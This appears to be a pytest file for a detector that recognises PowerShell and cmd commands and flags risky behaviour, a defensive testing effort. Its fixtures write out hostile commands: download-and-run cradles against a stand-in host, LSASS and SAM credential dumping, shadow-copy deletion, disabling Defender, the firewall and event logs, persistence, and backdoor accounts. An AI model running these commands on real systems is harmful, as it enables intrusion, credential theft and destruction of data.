"""PowerShell and cmd: recognised without taking a shell's text for them, always opaque, told by signals."""

import base64

import pytest

from interlock.analyst.windows import analyse, recognise
from support.analysing import codes, place


def encoded(text: str) -> str:
    return base64.b64encode(text.encode("utf-16-le")).decode()


POWERSHELL = [
    ("Get-ChildItem C:\\Temp | Remove-Item -Recurse -Force", {"windows.destroys"}),
    ("iex (iwr https://a.example/x.ps1)", {"windows.evaluates", "windows.downloads", "download.executed"}),
    ("IEX(New-Object Net.WebClient).DownloadString('http://a.example/')", {"download.executed"}),
    ("i`e`x (New-Object Net.WebClient).Downlo`adString('http://a.example/')", {"download.executed", "windows.obfuscated"}),
    ("Invoke-Expression ('Get-' + 'Process')", {"windows.evaluates"}),
    ("powershell.exe -NoProfile -ExecutionPolicy Bypass -File x.ps1", {"windows.disables"}),
    (f"powershell -enc {encoded('Set-MpPreference -DisableRealtimeMonitoring 1')}", {"windows.encoded", "windows.disables"}),
    (f"pwsh -e {encoded('powershell -enc ' + encoded('vssadmin delete shadows /all'))}", {"windows.destroys"}),
    ("[System.Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('aWV4IDE='))", {"windows.encoded", "windows.evaluates"}),
    ("Set-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name x -Value y", {"windows.persists"}),
    ("New-LocalUser -Name bo -NoPassword", {"windows.accounts"}),
    ("Enter-PSSession -ComputerName srv1", {"windows.moves"}),
    ("$env:TEMP", set()),
    ("Register-ScheduledTask -TaskName t -Action $a", {"windows.persists"}),
]  # fmt: skip
CMD = [
    ("cmd /c dir", set()),
    ('cmd.exe /c "whoami /all"', {"windows.discovers"}),
    ("certutil -urlcache -split -f http://a.example/x.exe x.exe", {"windows.downloads"}),
    ("c^e^r^t^u^t^i^l -urlcache -f http://a.example/x x", {"windows.downloads", "windows.obfuscated"}),
    ("bitsadmin /transfer j http://a.example/x %TEMP%\\x", {"windows.downloads"}),
    ("reg add HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d y", {"windows.persists"}),
    ("reg save HKLM\\SAM sam.hiv", {"windows.credentials"}),
    ("schtasks /create /tn t /tr x.exe /sc onlogon", {"windows.persists"}),
    ("wmic process call create calc.exe", {"windows.discovers"}),
    ("vssadmin delete shadows /all /quiet", {"windows.destroys"}),
    ("rundll32.exe comsvcs.dll, MiniDump 624 l.dmp full", {"windows.credentials", "windows.evaluates"}),
    ("mshta http://a.example/x.hta", {"windows.evaluates"}),
    ("regsvr32 /s /u /i:http://a.example/x.sct scrobj.dll", {"windows.evaluates"}),
    ("net user bo P4ss /add", {"windows.accounts"}),
    ("net localgroup administrators bo /add", {"windows.accounts"}),
    ("netsh advfirewall set allprofiles state off", {"windows.disables"}),
    ("wevtutil cl Security", {"windows.disables"}),
    ("copy x.exe %APPDATA%\\x.exe", set()),
    ("for /f %i in (a.txt) do echo %i", set()),
    ("rd /s /q C:\\data", {"windows.destroys"}),
    ("icacls C:\\x /grant everyone:F", {"windows.accounts"}),
    ("sc create svc binPath= c:\\x.exe", {"windows.persists"}),
    ("C:\\Windows\\System32\\calc.exe", set()),
]  # fmt: skip


@pytest.mark.parametrize(
    ("text", "language", "expected"),
    [*((text, "powershell", found) for text, found in POWERSHELL), *((text, "cmd", found) for text, found in CMD)],
)
def test_both_are_recognised_opaque_and_told(text: str, language: str, expected: set[str]) -> None:
    assert recognise(text) == language
    assert expected | {"windows.no_executor"} <= codes(analyse(text, place()))


@pytest.mark.parametrize(
    "text",
    [
        "ls -la", "git commit -m 'Set-up done'", "echo $HOME", "apt-get install -y curl", "find . -name '*.exe'", "net", "sc",
        "Read-only access was granted.", "docker run --rm -it alpine sh", "curl https://a.example/%7Buser%7D", "Sign-up to Get-together",
        "make -C src FOR=x", "python -c 'print(1)'", "kubectl get pods -n prod", "100% of users", "The cmd is below", "copy the file",
        "date +%Y%m%d", "printf '%s\\n' x", "awk '{print $1}'", "npm run build", "start the job", "https://a.example/?q=%5B%27temp_max%27%5D",
        "echo done > C:notes", "format the text", "attributes: x", "query the user table", "del", "Add-on installed", "",
    ],
)  # fmt: skip
def test_prose_and_posix_shells_are_neither(text: str) -> None:
    assert recognise(text) is None
